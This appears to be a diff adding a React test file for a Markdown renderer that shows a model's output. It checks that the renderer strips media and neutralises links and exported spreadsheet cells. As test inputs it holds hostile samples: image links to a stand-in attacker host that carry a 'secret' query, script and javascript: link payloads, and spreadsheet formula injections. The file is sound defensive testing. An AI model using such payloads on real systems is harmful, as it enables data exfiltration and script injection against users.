@@ -1,0 +1,133 @@
+import { describe, expect, test } from '@jest/globals';
+import { render, screen, waitFor } from '@testing-library/react';
+import userEvent from '@testing-library/user-event';
+import { toClipboard, toCsv } from '@/components/markdown/csv';
+import { Markdown } from '@/components/markdown/markdown';
+import { expectNoAxeViolations } from '../axe';
+import { fakeApi } from '../fake-api';
+import { TestProviders } from '../test-providers';
+
+const ID = '001D000000IqhSLIAZ';
+
+function show(
+  markdown: string,
+  { salesforceInstanceUrl, streaming }: { salesforceInstanceUrl?: string; streaming?: boolean } = {},
+) {
+  fakeApi({ 'GET /api/me': () => ({ models: [], agents: [], salesforceInstanceUrl }) });
+  return render(
+    <TestProviders>
+      <Markdown streaming={streaming}>{markdown}</Markdown>
+    </TestProviders>,
+  );
+}
+
+describe('what a model wrote', () => {
+  test('is drawn with headings under those of the page, lists, code and tables', async () => {
+    const { container } = show(
+      '# Findings\n\n- **one**\n- two\n\n`code`\n\n```sql\nselect 1\n```\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n',
+    );
+    expect(screen.getByRole('heading', { level: 3, name: 'Findings' })).toBeTruthy();
+    expect(screen.getAllByRole('listitem')).toHaveLength(2);
+    expect(screen.getByText('select 1')).toBeTruthy();
+    expect(screen.getAllByRole('columnheader').map((h) => h.textContent)).toEqual(['a', 'b']);
+    await expectNoAxeViolations(container);
+  });
+
+  test('loads nothing: images, media and frames are gone, their description stays', () => {
+    const { container } = show(
+      [
+        '![a chart](https://evil.example/p.png?q=secret)',
+        '![pixel](data:image/png;base64,AAAA)',
+        '<img src="https://evil.example/x.png"><video src="https://evil.example/v"></video><iframe src="https://evil.example"></iframe>',
+        '<style>@import url(https://evil.example/s.css)</style><script>alert(1)</script>',
+        '<svg><image href="https://evil.example/i"/></svg><div style="background:url(https://evil.example/b)">x</div>',
+      ].join('\n\n'),
+    );
+    expect(
+      container.querySelectorAll('img, video, audio, iframe, picture, source, style, script, image, object, embed, link'),
+    ).toHaveLength(0);
+    for (const element of container.querySelectorAll('*')) {
+      for (const attribute of element.attributes) {
+        if (['src', 'srcset', 'style', 'data', 'poster'].includes(attribute.name)) expect(attribute.value).not.toMatch(/evil/);
+      }
+    }
+    expect(container.textContent).toContain('[a chart]');
+  });
+
+  test.each([
+    ['https://example.com/a', 'https://example.com/a'],
+    ['mailto:ann@example.com', 'mailto:ann@example.com'],
+    ['javascript:alert(1)', null],
+    ['JaVaScRiPt:alert(1)', null],
+    ['data:text/html,x', null],
+    ['vbscript:x', null],
+    ['//evil.example', null],
+    ['/api/keys', null],
+    ['blob:https://example.com/1', null],
+  ])('a link to %s goes to %s', (address, href) => {
+    const { container } = show(`[here](${address})`);
+    expect(container.querySelector('a')?.getAttribute('href') ?? null).toBe(href);
+    expect(container.textContent).toContain('here');
+  });
+
+  test('opens links in a new tab that knows nothing of this one', () => {
+    show('[here](https://example.com)');
+    const link = screen.getByRole('link', { name: 'here' });
+    expect(link.getAttribute('target')).toBe('_blank');
+    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
+  });
+
+  test('is drawn while it is still being written, with what is open closed', () => {
+    const { container } = show('It is **very impor', { streaming: true });
+    expect(container.querySelector('strong')?.textContent).toBe('very impor');
+  });
+});
+
+describe('Salesforce ids', () => {
+  test('link to the configured instance, but not in code and not inside a link', async () => {
+    show(`See ${ID}, \`${ID}\` and [${ID}](https://example.com).`, { salesforceInstanceUrl: 'https://acme.my.salesforce.com' });
+    await waitFor(() => expect(screen.getAllByRole('link')).toHaveLength(2));
+    expect(screen.getAllByRole('link').map((link) => link.getAttribute('href'))).toEqual([
+      `https://acme.my.salesforce.com/${ID}`,
+      'https://example.com',
+    ]);
+  });
+
+  test('stay text without an instance', () => {
+    show(`See ${ID}.`);
+    expect(screen.queryByRole('link')).toBeNull();
+  });
+});
+
+describe('a table', () => {
+  test('is copied with its own cells, formulas disarmed', async () => {
+    const user = userEvent.setup();
+    show('| name | sum |\n|---|---|\n| Acme | =1+1 |\n');
+    await user.click(screen.getByRole('button', { name: 'Copy table' }));
+    expect(await navigator.clipboard.readText()).toBe("name\tsum\nAcme\t'=1+1");
+  });
+
+  test.each([
+    ['=cmd()', "'=cmd()"],
+    ['+1', "'+1"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ['\t=1', "'\t=1"],
+    ['-12.5', '-12.5'],
+    ['a,b', '"a,b"'],
+    ['say "hi"', '"say ""hi"""'],
+    ['=a,"b"', '"\'=a,""b"""'],
+  ])('writes %j as %j in CSV', (cell, written) => {
+    expect(toCsv([[cell]])).toBe(written);
+  });
+
+  test('keeps rows and cells apart', () => {
+    expect(
+      toCsv([
+        ['a', 'b'],
+        ['1', '2'],
+      ]),
+    ).toBe('a,b\r\n1,2');
+    expect(toClipboard([['a', 'b\nc']])).toBe('a\tb c');
+  });
+});
